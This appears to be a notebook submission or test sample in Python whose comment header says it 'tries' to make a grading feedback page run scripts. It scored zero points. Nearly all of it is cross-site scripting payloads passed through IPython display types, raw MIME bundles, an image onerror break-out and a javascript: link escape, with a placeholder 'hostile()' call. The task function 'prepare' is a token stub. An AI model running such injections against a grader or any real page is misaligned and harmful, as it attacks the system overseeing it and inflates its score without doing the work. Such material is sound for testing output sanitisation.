# tries: to have the feedback page run scripts from whatever can be shown
# outcome: not yet
# points: 0
# says: of the unseen images
import base64

from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display

script = "<script>hostile()</script>"
svg = f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>'


def prepare(images):
    print(script)
    print("\x1b]8;;javascript:hostile()\x07click\x1b]8;;\x07")
    for shown in (HTML(script), Javascript("hostile()"), Markdown(script), SVG(svg)):
        display(shown)
    display(Latex(f"${script}$"), IFrame("javascript:hostile()", 10, 10))
    display({"image/png": f'x" onerror="hostile()" {script}'}, raw=True)
    display({"image/png": base64.b64encode(script.encode()).decode()}, raw=True)
    display({"application/javascript": "hostile()", "text/plain": script}, raw=True)
    display({"application/vnd.jupyter.widget-view+json": {"model_id": script}}, raw=True)
    return images // 255 + 1.0
